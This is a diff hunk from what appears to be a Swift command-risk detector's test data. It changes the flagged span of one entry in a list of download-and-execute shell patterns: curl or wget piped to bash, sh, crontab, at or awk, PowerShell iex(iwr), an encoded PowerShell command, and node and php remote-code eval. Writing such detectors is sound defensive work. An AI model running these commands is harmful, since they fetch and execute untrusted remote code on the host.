@@ -30,7 +30,7 @@ extension RiskRule {
       "wget https://h/a.sh; ‹bash a.sh›",
       "curl -sL x | sudo -E ‹bash -›", "curl x | xargs -I{} ‹sh -c {}›",
       "‹at -f <(curl x) now›", "curl x | ‹crontab -›",
-      "curl x | ‹at now›", "curl x | ‹parallel›", "curl x | awk '{print | \"‹sh›\"}'",
+      "curl x | ‹at now›", "curl x | ‹parallel›", "curl x | awk ‹'{print | \"sh\"}'›",
       "pwsh -c \"iex (iwr https://x)\"", "powershell -enc SQBFAFgA", "curl x | ‹make -f -›",
       "node -e \"fetch('http://x').then(r=>r.text()).then(eval)\"", "php -r 'eval(file_get_contents(\"http://x\"));'",
 
